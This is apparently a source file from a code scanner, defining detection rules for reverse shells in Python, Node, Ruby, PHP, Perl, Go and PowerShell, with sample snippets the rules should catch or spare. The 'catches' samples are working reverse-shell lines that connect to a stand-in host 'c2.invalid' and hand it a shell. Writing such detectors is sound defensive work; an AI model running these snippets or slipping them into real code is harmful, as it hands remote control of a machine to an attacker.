/** RC-05: programs that connect a shell to a socket. */
import { row, runKinds } from '../../engine/rule.ts';
import {
  chars,
  code,
  edge,
  either,
  gap,
  letters,
  maybe,
  notBefore,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  word,
} from '../../engine/pattern.ts';
import { inFile } from '../../engine/example.ts';
import { isNearOnly } from '../calls/near-sockets.ts';
import type { Row } from '../../engine/rule.ts';

export const shellPrograms: readonly Row[] = [
  row('Python: a socket becomes standard input and output', {
    in: runKinds,
    within: 'block',
    match: pattern(
      oneOf(
        seq(code('socket.socket('), notBefore(space(0, 4), maybe('socket.'), 'AF_UNIX')),
        code('socket.create_connection('),
        seq(edge, code('s.connect((')),
      ),
    ),
    and: [
      pattern(
        either(
          // A service that leaves its terminal gets the null device for its input.
          seq(code('os.dup2('), notBefore(letters(0, 12), 'null')),
          code('pty.spawn('),
          seq(
            'subprocess.(call|Popen|run)',
            code('('),
            space(0, 4),
            maybe(code('[')),
            space(0, 3),
            quote,
            '(/bin/)(ba|z)?sh',
            quote,
          ),
        ),
      ),
      pattern(either(seq('(ba|z)?sh', edge), 'cmd.exe', 'powershell')),
    ],
    catches: [
      inFile(
        'scripts/a.py',
        's=socket.socket()',
        's.connect(("c2.invalid",4444))',
        'os.dup2(s.fileno(),0)',
        'subprocess.call(["/bin/sh","-i"])',
      ),
    ],
    weigh: ({ region, severity }) => (isNearOnly(region.text) ? null : severity),
    spares: [
      inFile(
        'scripts/service.py',
        'nothing = os.open(os.devnull, os.O_RDWR)',
        'os.dup2(null_device, 0)',
        'here = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
        'here.connect(where)',
        'subprocess.run(["bash", "after.sh"])',
      ),
      inFile(
        'scripts/phone.py',
        's = socket.socket()',
        's.connect(("127.0.0.1", 27015))',
        'os.dup2(s.fileno(), 3)',
        'subprocess.run(["bash", "list.sh"])',
      ),
      inFile(
        'scripts/a.py',
        's = socket.socket()',
        's.connect(("localhost", 5432))',
        'data = s.recv(16)',
        'subprocess.run(["pg_isready"], check=True)',
      ),
    ],
  }),
  row('Node: a socket piped to a shell', {
    in: runKinds,
    within: 'block',
    match: pattern(
      oneOf(
        'net.(connect|createConnection|Socket|createServer)',
        'new net.Socket',
        'tls.connect',
        seq(
          oneOf(seq(code('require('), space(0, 2)), seq('from', space(1, 3))),
          chars('"\'`'),
          '(node:)(net|tls)',
          chars('"\'`'),
        ),
        code('Deno.connect('),
        code('Bun.connect('),
      ),
    ),
    and: [
      pattern(
        oneOf('spawn', 'exec', 'execFile'),
        code('('),
        gap(60),
        quote,
        maybe('/bin/'),
        oneOf('(ba|z)?sh', 'cmd(.exe)', 'powershell(.exe)'),
        quote,
      ),
      pattern(code('.pipe(')),
    ],
    catches: [
      inFile(
        'scripts/a.cjs',
        'const { connect } = require("node:net");',
        'const sh = spawn("/bin/sh", []);',
        'const k = connect(9001, "c2.invalid");',
        'k.pipe(sh.stdin);',
      ),
    ],
    spares: [
      inFile(
        'scripts/tool.mjs',
        "import net from 'node:net';",
        'net.createServer((socket) => socket.pipe(socket)).listen(7000);',
      ),
    ],
  }),
  row('a socket connected to a shell, in Ruby, PHP, Perl, Go or PowerShell', {
    in: runKinds,
    within: 'block',
    match: pattern(
      oneOf(
        'TCPSocket.(new|open)',
        code('fsockopen('),
        'IO::Socket::INET',
        'use Socket;',
        seq(code('net.Dial('), space(0, 4), quote, 'tcp'),
        code('TCPClient('),
      ),
      gap(300),
    ),
    and: [
      pattern(
        either(
          seq(
            oneOf('exec', 'system', 'popen', 'proc_open', 'spawn', 'Command', 'iex'),
            space(0, 3),
            chars('( '),
            gap(60),
            oneOf(seq('(ba|z)?sh', edge), 'cmd(.exe)'),
          ),
          code('open(STDIN'),
          seq(oneOf('`', code('%x(')), code('#{')),
          word('iex'),
          'Invoke-Expression',
        ),
      ),
    ],
    catches: [
      inFile(
        'scripts/x.rb',
        "require 'socket'",
        "s = TCPSocket.new('c2.invalid', 9001)",
        "exec('/bin/sh', in: s, out: s)",
      ),
    ],
    spares: [
      inFile('scripts/x.rb', "require 'socket'", "s = TCPSocket.new('www.acme.example', 80)", 'puts s.gets'),
    ],
  }),
];
